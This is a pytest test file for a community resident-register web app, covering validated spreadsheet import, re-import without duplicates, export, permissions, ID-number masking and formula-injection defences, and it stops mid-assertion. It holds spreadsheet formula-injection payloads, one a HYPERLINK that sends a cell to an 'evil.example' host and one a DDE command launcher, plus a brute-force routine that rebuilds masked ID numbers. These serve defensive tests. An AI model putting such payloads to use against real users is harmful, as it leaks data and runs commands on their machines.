"""The resident register (居民底册): checking rows, importing all-or-nothing and again
without duplicates, exporting so that an export imports back unchanged, the pages with
their permissions and constant query counts, and the command line."""

import csv
import io
import os
import re
import subprocess
import time
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from linli import Manifest, hookimpl
from linli.domain.audit.models import AuditEntry
from linli.domain.communities import community_root, create_community
from linli.domain.hierarchy.models import Node
from linli.domain.hierarchy.services import add_node
from linli.domain.identity.models import Household, Membership, Person, PersonTag
from linli.domain.identity.people import (
    PeopleError,
    add_tag,
    move_person,
    remove_tag,
)
from linli.domain.identity.register import (
    HEADERS,
    RegisterFileError,
    check_rows,
    export_rows,
    id_check_digit,
    import_register,
    read_table,
    template_workbook,
    workbook_of,
)
from linli.domain.permissions.services import load_actor
from linli.kernel.i18n import N_
from linli.kernel.models import PluginState
from linli.kernel.plugins import PersonSection
from linli.kernel.registry import LoadedPlugin
from linli.testing import cli_command, form_post, log_in, make_account, page_queries

TODAY = date(2026, 6, 1)


# -- building registers ----------------------------------------------------------------


def id_number(serial: int, born: date, male: bool) -> str:
    """A valid ID-card number: a Wuhan region code, the birth date, a serial whose last
    digit is odd for men, and the check digit."""
    order = f"{serial % 1000:03d}"
    order = order[:2] + str(int(order[2]) // 2 * 2 + (1 if male else 0))
    first = f"420103{born:%Y%m%d}{order}"
    return first + id_check_digit(first)


def person_row(index: int) -> dict[str, str]:
    """Row ``index`` of a generated register: three people a household, 12 flats an
    entrance, 5 entrances a building."""
    born = date(1935 + index % 70, 1 + index % 12, 1 + index % 28)
    male = index % 2 == 0
    flat = index // 3
    return {
        "姓名": f"居民{index}",
        "性别": "男" if male else "女",
        "出生日期": born.isoformat(),
        "手机号": f"139{index:08d}",
        "身份证号": id_number(index, born, male),
        "户号": f"H{flat:05d}",
        "小区": "",
        "楼栋": f"{flat // 60 + 1}栋",
        "单元": f"{flat // 12 % 5 + 1}单元",
        "门牌/房号": f"{flat % 12 // 4 + 1}0{flat % 4 + 1}",
        "与户主关系": "户主" if index % 3 == 0 else "子女",
        "标签": "独居、高龄" if index % 50 == 0 else ("党员" if index % 7 == 0 else ""),
        "备注": "",
    }


def register(count: int) -> list[dict[str, str]]:
    return [person_row(index) for index in range(count)]


def xlsx(rows: list[dict], headers: list[str] = HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(header, "") for header in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: list[dict], headers: list[str] = HEADERS, encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    for row in rows:
        writer.writerow([row.get(header, "") for header in headers])
    return buffer.getvalue().encode(encoding)


def table_of(rows: list[dict], kind: str = "xlsx"):
    return read_table(xlsx(rows) if kind == "xlsx" else csv_bytes(rows))


def problems_by_row(report) -> dict[int, list[str]]:
    found: dict[int, list[str]] = {}
    for problem in report.problems:
        found.setdefault(problem.row, []).append(problem.column)
    return found


async def do_import(community, rows, *, dry_run=False, kind="xlsx", actor=None):
    return await import_register(
        community, table_of(rows, kind), dry_run=dry_run, actor=actor, today=TODAY
    )


async def counts() -> tuple[int, int, int, int, int]:
    return (
        await Person.all().count(),
        await Household.all().count(),
        await Membership.all().count(),
        await PersonTag.all().count(),
        await Node.all().count(),
    )


# -- the acceptance test ---------------------------------------------------------------

#: Twenty ways a clerk gets a row wrong: (row index, column, bad value, where reported).
BAD_CELLS = [
    (11, "身份证号", "CHECKSUM", "身份证号"),
    (250, "身份证号", "42010319500101123", "身份证号"),
    (499, "出生日期", "1950-02-30", "出生日期"),
    (731, "出生日期", "2099-01-01", "出生日期"),
    (902, "手机号", "1380013800", "手机号"),
    (1103, "手机号", "23800138000", "手机号"),
    (1350, "性别", "男的", "性别"),
    (1502, "标签", "独局", "标签"),
    (1777, "姓名", "", "姓名"),
    (2001, "性别", "SWAP", "性别"),
    (2222, "出生日期", "1961-01-01", "出生日期"),
    (2468, "身份证号", "DUPLICATE", "身份证号"),
    (2890, "楼栋", "", "楼栋"),
    (3001, "姓名", "很" * 65, "姓名"),
    (3333, "与户主关系", "关系" * 9, "与户主关系"),
    (3590, "门牌/房号", "999", "户号"),
    (3777, "出生日期", "去年", "出生日期"),
    (4100, "手机号", "138abc38000", "手机号"),
    (4444, "标签", "独居,VIP", "标签"),
    (4998, "身份证号", "42010319500101123Y", "身份证号"),
]


def with_bad_cells(rows: list[dict]) -> list[dict]:
    bad = [dict(row) for row in rows]
    for index, column, value, _ in BAD_CELLS:
        row = bad[index]
        if value == "CHECKSUM":
            wrong = "0" if row["身份证号"][-1] != "0" else "1"
            value = row["身份证号"][:-1] + wrong
        elif value == "SWAP":
            value = "女" if row["性别"] == "男" else "男"
        elif value == "DUPLICATE":  # the later of the two rows is reported
            earlier = rows[index - 1]
            row["性别"], row["出生日期"] = earlier["性别"], earlier["出生日期"]
            value = earlier["身份证号"]
        if column == "门牌/房号":
            # the household code of an earlier row, with another address
            row["户号"] = bad[index - 3]["户号"]
        row[column] = value
    return bad


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
async def test_5000_rows_with_20_bad_ones_then_fixed_then_again(linli_community, kind):
    good = register(5000)
    bad = with_bad_cells(good)
    expected_rows = sorted(index + 2 for index, *_ in BAD_CELLS)  # row 1 is the header

    started = time.perf_counter()
    dry = await do_import(linli_community, bad, dry_run=True, kind=kind)
    assert sorted(problems_by_row(dry)) == expected_rows
    assert not dry.ok and dry.problem_rows == 20
    assert await counts() == (0, 0, 0, 0, 1)  # only the community's own node

    refused = await do_import(linli_community, bad, kind=kind)  # a real run refuses the whole file
    assert not refused.applied and refused.problem_rows == 20
    assert await counts() == (0, 0, 0, 0, 1)
    assert not await AuditEntry.exists()

    imported = await do_import(linli_community, good, kind=kind)
    assert imported.applied
    assert (imported.created, imported.updated, imported.unchanged) == (5000, 0, 0)
    assert await Person.filter(community=linli_community).count() == 5000
    assert await Household.all().count() == 5000 // 3 + 1
    elapsed = time.perf_counter() - started
    assert elapsed < 60, f"three passes over 5,000 rows took {elapsed:.1f} s"

    before = await counts()
    again = await do_import(linli_community, good, kind=kind)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 5000)
    assert (again.households_created, again.places_created) == (0, 0)
    assert await counts() == before


async def test_every_problem_names_its_row_and_column(linli_community):
    report = await do_import(linli_community, with_bad_cells(register(5000)), dry_run=True)
    found = problems_by_row(report)
    for index, _, _, reported in BAD_CELLS:
        assert reported in found[index + 2], (index, found[index + 2])
    assert [p.row for p in report.problems] == sorted(p.row for p in report.problems)
    assert all(p.text() for p in report.problems)


# -- checking rows (pure) --------------------------------------------------------------


def check(**cells: str):
    headers = list(cells)
    rows, problems = check_rows(read_table(csv_bytes([cells], headers)), today=TODAY)
    return rows, [(p.column, p.message) for p in problems]


def test_id_numbers_fill_in_birth_date_and_gender():
    number = id_number(7, date(1948, 9, 30), male=False)
    rows, problems = check(姓名="王奶奶", 身份证号=number.lower(), 户号="H1")
    assert problems == []
    assert rows[0].values["birth_date"] == date(1948, 9, 30)
    assert rows[0].values["gender"] == "女"
    assert rows[0].id_number == number.upper()


@pytest.mark.parametrize(
    ("cells", "column"),
    [
        ({"身份证号": "42010319480930"}, "身份证号"),
        ({"身份证号": "42010319481330123X"}, "身份证号"),
        ({"出生日期": "1950/13/01"}, "出生日期"),
        ({"手机号": "+86 139 0000 000"}, "手机号"),
        ({"性别": "M"}, "性别"),
        ({"标签": "独居、不存在的标签"}, "标签"),
        ({"楼栋": "10栋"}, "门牌/房号"),
        ({"户号": "", "楼栋": ""}, ""),
    ],
)
def test_bad_cells_are_reported_in_their_column(cells, column):
    base = {"姓名": "李四", "户号": "H1", "楼栋": "", "门牌/房号": "", **cells}
    rows, problems = check(**base)
    assert rows == []
    assert column in [found for found, _ in problems]


def test_good_cells_in_their_many_forms():
    rows, problems = check(
        姓名=" 张三 ",
        出生日期="1950年3月2日",
        手机号="+86 139-0000-0000",
        性别="男性",
        标签="独居，高龄;党员",
        楼栋="10栋",
        单元="",
        **{"门牌/房号": "301"},
    )
    assert problems == []
    row = rows[0]
    assert row.name == "张三"
    assert row.values["birth_date"] == date(1950, 3, 2)
    assert row.values["phone"] == "13900000000"
    assert row.values["gender"] == "男"
    assert row.tags == {"独居", "高龄", "党员"}
    assert row.household == "10-301"  # made from the address when 户号 is blank


def test_a_title_row_above_the_headers_and_unknown_columns_are_fine():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["江汉里社区居民底册（2026年）"])
    sheet.append(["序号", "姓名", "户号", "身份证号"])
    sheet.append([1, "赵六", "H9", id_number(1, date(1960, 1, 1), True)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = read_table(buffer.getvalue())
    assert table.ignored == ["序号"]
    assert [row.number for row in table.rows] == [3]


def test_an_id_number_typed_as_a_number_is_refused():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "户号", "身份证号"])
    sheet.append(["钱七", "H1", 420103195001011234])
    buffer = io.BytesIO()
    workbook.save(buffer)
    _, problems = check_rows(read_table(buffer.getvalue()), today=TODAY)
    assert [p.column for p in problems] == ["身份证号"]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old excel",
        b"PK\x03\x04 not really a workbook",
        "名字,电话\n张三,13900000000\n".encode(),
        "姓名,性别\n张三,男\n".encode(),  # no way to find people again
        "姓名,姓名,户号\n张三,张三,H1\n".encode(),
        "姓名,户号\n".encode(),
    ],
)
def test_files_that_are_not_registers_are_refused(content):
    with pytest.raises(RegisterFileError):
        read_table(content)


def test_gbk_csv_from_excel_is_read():
    data = csv_bytes([person_row(0)], encoding="gb18030")
    table = read_table(data)
    assert table.rows[0].cells["name"] == "居民0"


# -- importing again -------------------------------------------------------------------


async def test_reimport_updates_by_key_instead_of_duplicating(linli_community):
    rows = register(9)
    await do_import(linli_community, rows, kind="csv")
    changed = [dict(row) for row in rows]
    changed[0]["手机号"] = "13700000000"  # found by ID-card number
    changed[1]["身份证号"] = ""  # found by household + name; the stored number stays
    changed[1]["备注"] = "腿脚不便"
    changed[2]["标签"] = "残疾"  # the cell is the whole set of tags
    changed[3]["户号"] = changed[6]["户号"]  # moves into another household
    changed[3]["楼栋"], changed[3]["单元"] = changed[6]["楼栋"], changed[6]["单元"]
    changed[3]["门牌/房号"] = changed[6]["门牌/房号"]
    changed[4]["与户主关系"] = "配偶"
    report = await do_import(linli_community, changed, kind="csv")
    assert (report.created, report.updated, report.unchanged) == (0, 5, 4)
    assert await Person.all().count() == 9
    first = await Person.get(name="居民0")
    assert first.phone == "13700000000"
    second = await Person.get(name="居民1")
    assert second.notes == "腿脚不便" and second.id_number == rows[1]["身份证号"]
    third = await Person.get(name="居民2")
    assert await PersonTag.filter(person=third).values_list("tag", flat=True) == ["残疾"]
    moved = await Person.get(name="居民3")
    history = await Membership.filter(person=moved).order_by("id").prefetch_related("household")
    assert [(m.household.code, m.ended_on) for m in history] == [
        (rows[3]["户号"], TODAY),
        (rows[6]["户号"], None),
    ]
    spouse = await Membership.get(person__name="居民4", ended_on__isnull=True)
    assert spouse.relation == "配偶"
    entries = await AuditEntry.filter(action="identity.person.reimported").count()
    assert entries == 5
    assert (await do_import(linli_community, changed, kind="csv")).unchanged == 9


async def test_rows_that_are_the_same_person_are_refused(linli_community):
    rows = register(3)
    await do_import(linli_community, rows)
    again = [dict(rows[0]), {**rows[0], "身份证号": "", "手机号": "13100000000"}]
    report = await do_import(linli_community, again, dry_run=True)
    assert [p.row for p in report.problems] == [3]


async def test_households_are_filed_under_existing_places(linli_community):
    root = await community_root(linli_community)
    estate = await add_node(kind="estate", name="江汉里一期", parent=root)
    b10 = await add_node(kind="building", name="10栋", parent=estate)
    await add_node(kind="entrance", name="1单元", parent=b10)
    row = {**person_row(0), "楼栋": "10栋", "单元": "1单元", "门牌/房号": "301", "户号": ""}
    other = {**person_row(1), "小区": "二期", "楼栋": "10栋", "单元": "1单元", "户号": "Q2"}
    report = await do_import(linli_community, [row, other])
    assert report.applied
    assert report.places_created == 1 + 4  # 301 in 10栋; 二期 → 10栋 → 1单元 → its flat
    household = await Household.get(code="10-1-301").prefetch_related("node")
    flat = household.node
    assert flat.name == "301" and flat.parent_id is not None
    assert flat.path.startswith(b10.path)
    assert await Node.filter(name="10栋").count() == 2
    ambiguous = {**person_row(2), "楼栋": "10栋", "单元": "", "户号": "Q3"}
    refused = await do_import(linli_community, [ambiguous], dry_run=True)
    assert [p.column for p in refused.problems] == ["小区"]


async def test_new_buildings_go_into_the_only_estate(linli_community):
    root = await community_root(linli_community)
    estate = await add_node(kind="estate", name="江汉里", parent=root)
    await do_import(linli_community, [person_row(0)])
    building = await Node.get(name="1栋")
    assert building.parent_id == estate.id


# -- export ----------------------------------------------------------------------------


@pytest.mark.parametrize("full_ids", [True, False])
async def test_an_export_imports_back_unchanged(linli_community, full_ids):
    rows = register(30)
    rows[5]["户号"] = ""  # a household code made from the address
    await do_import(linli_community, rows)
    exported = workbook_of(await export_rows(linli_community.id, full_ids=full_ids))
    sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == HEADERS
    ids = [row[HEADERS.index("身份证号")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(("*" in number) != full_ids for number in ids)
    report = await import_register(
        linli_community, read_table(exported), dry_run=False, actor=None, today=TODAY
    )
    assert report.ok, report.problems
    assert (report.created, report.updated, report.unchanged) == (0, 0, 30)


async def test_a_masked_id_cannot_create_a_person(linli_community):
    masked = {**person_row(0), "身份证号": "420***********1234"}
    report = await do_import(linli_community, [masked], dry_run=True)
    assert [p.column for p in report.problems] == ["身份证号"]


def test_the_template_has_the_headers_and_instructions():
    workbook = load_workbook(io.BytesIO(template_workbook()))
    assert [cell.value for cell in workbook.worksheets[0][1]] == HEADERS
    assert len(workbook.sheetnames) == 2
    with pytest.raises(RegisterFileError):  # empty: nothing to import yet
        read_table(template_workbook())


# -- people services -------------------------------------------------------------------


async def test_moving_a_person_keeps_the_history(linli_community):
    await do_import(linli_community, register(6))
    person = await Person.get(name="居民0")
    target = await Household.get(code=person_row(3)["户号"])
    worker = await load_actor(await make_account("w", linli_community, "community_worker"))
    await move_person(person, target, actor=worker, relation="租户", on=TODAY)
    current = await Membership.filter(person=person, ended_on__isnull=True).prefetch_related(
        "household"
    )
    assert [(m.household.code, m.relation) for m in current] == [(target.code, "租户")]
    assert await Membership.filter(person=person, ended_on=TODAY).count() == 1
    with pytest.raises(PeopleError):
        await move_person(person, target, actor=worker, on=TODAY)
    assert await AuditEntry.filter(action="identity.person.moved", actor=worker.account).exists()


async def test_tags_are_added_and_removed_with_an_audit_entry(linli_community):
    person = await Person.create(community=linli_community, name="孙八")
    assert await add_tag(person, "独居", actor=None)
    assert not await add_tag(person, "独居", actor=None)
    with pytest.raises(PeopleError):
        await add_tag(person, "VIP", actor=None)
    assert await remove_tag(person, "独居", actor=None)
    actions = await AuditEntry.filter(object_id=str(person.id)).values_list("action", flat=True)
    assert sorted(actions) == ["identity.person.tag_added", "identity.person.tag_removed"]


# -- pages -----------------------------------------------------------------------------

BASE = "/c/test/register"


def zh(registry, message: str, **params) -> str:
    """What a visitor reading Chinese sees for ``message``."""
    text = registry.catalogues.translate("zh_CN", message)
    return text % params if params else text


async def test_anonymous_visitors_are_sent_to_log_in(linli_client, linli_community):
    response = await linli_client.get(f"{BASE}/", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith("/login?next=")


async def test_a_resident_without_the_permission_is_refused(linli_client, linli_community):
    await do_import(linli_community, register(3))
    person = await Person.first()
    await make_account("resident", linli_community, "resident")
    await log_in(linli_client, "resident")
    assert (await linli_client.get(f"{BASE}/")).status_code == 403
    assert (await linli_client.get(f"{BASE}/people/{person.id}")).status_code == 403
    assert (await linli_client.get(f"{BASE}/import")).status_code == 403
    assert (await linli_client.get(f"{BASE}/export")).status_code == 403


async def test_the_list_searches_by_name_phone_building_and_tag(
    linli_client, linli_community, linli_registry
):
    await do_import(linli_community, register(200))
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    page = await linli_client.get(f"{BASE}/")
    assert page.status_code == 200
    assert zh(linli_registry, "People found: %(count)d", count=200) in page.text
    by_name = await linli_client.get(f"{BASE}/", params={"q": "居民17"})
    assert (
        ">居民17<" in by_name.text
        and ">居民171<" in by_name.text
        and ">居民18<" not in by_name.text
    )
    by_phone = await linli_client.get(f"{BASE}/", params={"q": "13900000042"})
    assert ">居民42<" in by_phone.text and ">居民41<" not in by_phone.text
    building = await Node.get(name="2栋", kind__key="building")
    in_building = await linli_client.get(f"{BASE}/", params={"building": str(building.id)})
    assert ">居民180<" in in_building.text and ">居民0<" not in in_building.text
    by_tag = await linli_client.get(f"{BASE}/", params={"tag": "独居"})
    registry = linli_registry
    assert zh(registry, "People found: %(count)d", count=4) in by_tag.text
    last = await linli_client.get(f"{BASE}/", params={"page": "4"})
    assert zh(registry, "Page %(page)d of %(pages)d", page=4, pages=4) in last.text


async def test_a_grid_worker_sees_only_their_buildings(
    linli_client, linli_community, linli_registry
):
    await do_import(linli_community, register(200))
    building = await Node.get(name="2栋", kind__key="building")
    await make_account("grid", linli_community, ("grid_worker", building))
    await log_in(linli_client, "grid")
    page = await linli_client.get(f"{BASE}/")
    registry = linli_registry
    assert zh(registry, "People found: %(count)d", count=20) in page.text
    inside = await Person.get(name="居民180")
    outside = await Person.get(name="居民0")
    assert (await linli_client.get(f"{BASE}/people/{inside.id}")).status_code == 200
    assert (await linli_client.get(f"{BASE}/people/{outside.id}")).status_code == 403


#: The district codes of Wuhan: with the birth date beside a masked number, an attacker
#: tries each of them.
WUHAN_DISTRICTS = [f"4201{n:02d}" for n in (2, 3, 4, 5, 6, 7, 11, 12, 13, 14, 15, 16, 17)]


def rebuilt_numbers(masked: str, born: date, male: bool) -> list[str]:
    """Every valid number agreeing with what a page shows together: the masked number,
    the birth date and the gender (the 94% attack of issue 14)."""
    found = []
    for district in WUHAN_DISTRICTS:
        for serial in range(1000):
            if serial % 2 != (1 if male else 0):
                continue
            first = f"{district}{born:%Y%m%d}{serial:03d}"
            number = first + id_check_digit(first)
            if all(shown in ("*", real) for shown, real in zip(masked, number, strict=True)):
                found.append(number)
    return found


async def test_a_masked_id_number_and_the_birth_date_beside_it_reveal_nothing(
    linli_client, linli_community
):
    await do_import(linli_community, register(3))
    person = await Person.get(name="居民0")
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    page = await linli_client.get(f"{BASE}/people/{person.id}")
    assert page.status_code == 200
    masked = re.search(r"[\dX]{0,6}\*{8,}[\dX]{0,4}", page.text).group(0)
    assert masked == person.masked_id_number and person.id_number not in page.text
    assert person.birth_date.isoformat() in page.text  # shown beside it
    assert person.id_number[-4:] not in masked
    candidates = rebuilt_numbers(masked, person.birth_date, person.gender == "男")
    assert person.id_number in candidates and len(candidates) > 1000
    exported = load_workbook(io.BytesIO((await linli_client.get(f"{BASE}/export")).content))
    cells = [str(c.value) for row in exported.worksheets[0].iter_rows() for c in row]
    assert masked in cells and not any(person.id_number[-4:] in c for c in cells if "*" in c)


async def test_the_full_id_number_is_shown_only_on_an_audited_request(
    linli_client, linli_community, linli_registry
):
    await do_import(linli_community, register(3))
    person = await Person.get(name="居民0")
    await make_account("worker", linli_community, "community_worker")
    await make_account("secretary", linli_community, "committee_secretary")
    show = f"{BASE}/people/{person.id}/id-number"
    await log_in(linli_client, "worker")
    assert (await form_post(linli_client, show, {})).status_code == 403
    await log_in(linli_client, "secretary")
    page = await linli_client.get(f"{BASE}/people/{person.id}")
    assert person.masked_id_number in page.text and person.id_number not in page.text
    assert f'action="{show}"' in page.text
    assert await AuditEntry.filter(action="identity.person.id_number_shown").count() == 0
    forged = await linli_client.post(show, data={})  # no CSRF token
    assert forged.status_code == 403 and person.id_number not in forged.text
    full = await form_post(linli_client, show, {})
    assert full.status_code == 200 and person.id_number in full.text
    assert full.headers["cache-control"] == "no-store"
    entry = await AuditEntry.get(action="identity.person.id_number_shown").prefetch_related("actor")
    assert entry.actor.username == "secretary"
    imported = await AuditEntry.get(action="identity.person.imported", object_id=str(person.id))
    assert imported.after["id_number"] == person.masked_id_number  # the trail holds no number
    assert (entry.object_type, entry.object_id) == ("core.Person", str(person.id))
    assert zh(linli_registry, "Full ID-card number shown") in full.text  # in the history
    audit = await linli_client.get("/c/test/admin/audit")
    assert zh(linli_registry, "Full ID-card number shown") in audit.text


async def test_another_communitys_person_is_not_found(
    linli_client, linli_community, linli_registry
):
    other = await create_community("other", "别的社区", linli_registry)
    stranger = await Person.create(community=other, name="外人")
    await make_account("secretary", linli_community, "committee_secretary")
    await log_in(linli_client, "secretary")
    assert (await linli_client.get(f"{BASE}/people/{stranger.id}")).status_code == 404
    assert (await linli_client.get(f"{BASE}/people/987654")).status_code == 404
    assert (
        await linli_client.get(f"/c/other/register/people/{stranger.id}")
    ).status_code == 404  # not a member there


async def test_the_person_page_shows_household_roles_and_history(
    linli_client, linli_community, linli_registry
):
    await do_import(linli_community, register(6))
    head = await Person.get(name="居民0")
    await make_account("grandpa", linli_community, "volunteer", person=head)
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    registry = linli_registry
    page = await linli_client.get(f"{BASE}/people/{head.id}")
    assert page.status_code == 200
    assert "居民1" in page.text and "居民2" in page.text  # the other members
    assert "子女" in page.text  # relations to the head of household
    assert '<ul class="register-tags">' in page.text and "高龄" in page.text
    assert "grandpa" in page.text
    assert zh(registry, "Added by a register import") in page.text
    tagged = await form_post(linli_client, f"{BASE}/people/{head.id}/tags", {"tag": "残疾"})
    assert tagged.status_code == 200 and zh(registry, "Tag added") in tagged.text
    refused = await form_post(linli_client, f"{BASE}/people/{head.id}/tags", {"tag": "VIP"})
    assert refused.status_code == 400
    message = zh(registry, "Unknown tag %(tag)s. Known tags: %(known)s.", tag="VIP", known="")
    assert message.split("VIP")[0] in refused.text
    moved = await form_post(
        linli_client,
        f"{BASE}/people/{head.id}/move",
        {"household": person_row(3)["户号"], "relation": "户主"},
    )
    assert moved.status_code == 200
    assert zh(registry, "Earlier households") in moved.text
    nowhere = await form_post(linli_client, f"{BASE}/people/{head.id}/move", {"household": "X"})
    assert nowhere.status_code == 400


def _section_plugin(tmp_path):
    """A plugin adding two sections to a person's page, one of them broken."""
    folder = tmp_path / "templates" / "sections"
    folder.mkdir(parents=True)
    (folder / "points.html").write_text('<p class="points">{{ points }}</p>')

    class SectionPlugin:
        manifest = Manifest(name="sections", title={"zh_CN": "积分", "en": "Points"}, version="1")

        @hookimpl
        def linli_template_dirs(self):
            return [tmp_path / "templates"]

        @hookimpl
        def linli_person_sections(self, person, actor):
            async def points(person):
                return {"points": len(person.name) * 100}

            async def broken(person):
                raise RuntimeError("section exploded")

            return [
                PersonSection("Points", "sections/points.html", points),
                PersonSection("Broken", "sections/points.html", broken),
            ]

    return SectionPlugin()


@pytest.fixture
def with_sections(linli_registry, tmp_path):
    plugin = _section_plugin(tmp_path)
    linli_registry.pm.register(plugin, name="sections")
    linli_registry.loaded["sections"] = LoadedPlugin("sections", plugin.manifest, plugin)
    return plugin


async def test_plugin_sections_appear_and_a_failing_one_is_left_out(
    with_sections, linli_client, linli_community
):
    await PluginState.create(community=linli_community, plugin="sections", enabled=True)
    person = await Person.create(community=linli_community, name="周九")
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    page = await linli_client.get(f"{BASE}/people/{person.id}")
    assert page.status_code == 200
    assert '<p class="points">200</p>' in page.text
    assert "Broken" not in page.text


async def test_the_list_makes_a_constant_number_of_queries(linli_client, linli_community):
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    root = await community_root(linli_community)
    flat = await add_node(kind="household", name="101", parent=root)
    household = await Household.create(community=linli_community, node=flat, code="H1")

    async def add_people(start: int, count: int) -> None:
        await Person.bulk_create(
            [
                Person(community=linli_community, name=f"人{i:05d}")
                for i in range(start, start + count)
            ]
        )
        made = await Person.filter(name__gte=f"人{start:05d}").values_list("id", flat=True)
        await Membership.bulk_create(
            [Membership(household=household, person_id=pid, started_on=TODAY) for pid in made]
        )
        await PersonTag.bulk_create([PersonTag(person_id=pid, tag="高龄") for pid in made])

    async def queries(**params) -> int:
        return len(await page_queries(linli_client, f"{BASE}/", params=params))

    await add_people(0, 100)
    few = [await queries(), await queries(tag="高龄", page="2"), await queries(q="人")]
    await add_people(100, 9900)
    many = [await queries(), await queries(tag="高龄", page="2"), await queries(q="人")]
    assert few == many
    assert max(many) <= 8


async def test_import_through_the_pages_with_dry_run_and_confirm(
    linli_client, linli_community, linli_registry
):
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    registry = linli_registry
    page = await linli_client.get(f"{BASE}/import")
    assert page.status_code == 200 and 'enctype="multipart/form-data"' in page.text
    rows = register(12)
    rows[4]["手机号"] = "12345"
    checked = await upload(linli_client, "register.csv", csv_bytes(rows))
    assert checked.status_code == 200
    assert zh(registry, "A mobile number has 11 digits and starts with 1.") in checked.text
    row = zh(registry, "Row")
    assert f'<td data-label="{row}">6</td>' in checked.text and 'name="token"' not in checked.text
    assert await Person.all().count() == 0
    rows[4]["手机号"] = "13912345678"
    checked = await upload(linli_client, "register.xlsx", xlsx(rows))
    assert zh(registry, "Created: %(count)d", count=12) in checked.text
    assert await Person.all().count() == 0  # a dry run changes nothing
    token = checked.text.split('name="token" value="')[1].split('"')[0]
    done = await form_post(
        linli_client, f"{BASE}/import/confirm", {"token": token, "filename": "register.xlsx"}
    )
    assert done.status_code == 200
    assert zh(registry, "The register was imported.") in done.text
    assert await Person.all().count() == 12
    entry = await AuditEntry.get(action="identity.register.imported").prefetch_related("actor")
    assert entry.actor.username == "worker" and entry.after["created"] == 12
    twice = await form_post(linli_client, f"{BASE}/import/confirm", {"token": token})
    assert twice.status_code == 400  # the upload was used up


async def upload(client, filename: str, content: bytes):
    if "linli_csrf" not in client.cookies:
        await client.get("/healthz")
    return await client.post(
        f"{BASE}/import",
        files={"file": (filename, content, "application/octet-stream")},
        data={"_csrf_token": client.cookies["linli_csrf"]},
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
            N_(
                "This is not a spreadsheet. Upload an Excel workbook (.xlsx) or a CSV file "
                "made from the register template."
            ),
        ),
        (
            "名字,电话\n张三,13900000000\n".encode(),
            N_(
                "No header row was found: one of the first %(rows)d rows must name the "
                "columns, among them 姓名. Download the template to see them."
            ),
        ),
    ],
)
async def test_a_bad_upload_gets_a_clear_message_and_changes_nothing(
    linli_client, linli_community, content, message, linli_registry
):
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    before = await counts()
    response = await upload(linli_client, "people.xlsx", content)
    assert response.status_code == 400
    assert zh(linli_registry, message, rows=10) in response.text
    assert await counts() == before


async def test_export_and_template_downloads(linli_client, linli_community):
    await do_import(linli_community, register(60))
    await make_account("worker", linli_community, "community_worker")
    await log_in(linli_client, "worker")
    everyone = await linli_client.get(f"{BASE}/export")
    assert everyone.status_code == 200
    assert everyone.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in everyone.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(everyone.content)).worksheets[0]
    assert sheet.max_row == 61
    assert "*" in sheet.cell(row=2, column=HEADERS.index("身份证号") + 1).value  # masked
    tagged = await linli_client.get(f"{BASE}/export", params={"tag": "党员"})
    sheet = load_workbook(io.BytesIO(tagged.content)).worksheets[0]
    assert sheet.max_row - 1 == sum(1 for i in range(60) if "党员" in person_row(i)["标签"])
    template = await linli_client.get(f"{BASE}/template")
    assert template.status_code == 200
    workbook = load_workbook(io.BytesIO(template.content))
    assert [cell.value for cell in workbook.worksheets[0][1]] == HEADERS


# -- formula injection -----------------------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&E2,"点击核对")'
EVIL_NOTE = "=cmd|' /C calc'!A0"
#: Text a spreadsheet would run as a formula (or that starts with the escape itself).
LOOKS_LIKE_FORMULAS = [EVIL_NOTE, "+86 找王阿姨", "-行动不便", "@SUM(1+1)", "=1+1", "'楼上"]


def evil_register() -> list[dict[str, str]]:
    rows = register(len(LOOKS_LIKE_FORMULAS))
    for row, text in zip(rows, LOOKS_LIKE_FORMULAS, strict=True):
        row["备注"] = text
    rows[0]["姓名"] = EVIL_NAME
    return rows


def assert_inert_xlsx(content: bytes) -> list[list]:
    """No cell of the workbook is a formula; its rows' values."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # not data_only: formulas show
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def assert_escaped_csv(content: bytes) -> list[list[str]]:
    """No cell of the CSV file starts like a formula; its rows."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert rows and not [cell for row in rows for cell in row if cell.startswith(starts)]
    return rows


async def test_formula_cells_are_refused_by_the_dry_run(
    linli_client, linli_community, linli_registry
):
    from markupsafe import escape

    from linli.domain.identity.register import FORMULA

    rows = register(3)
    rows[1]["姓名"], rows[2]["备注"] = EVIL_NAME, EVIL_NOTE  # openpyxl writes formulas
    report = await do_import(linli_community, rows, dry_run=True)
    assert [(p.row, p.column, p.message) for p in report.problems] == [
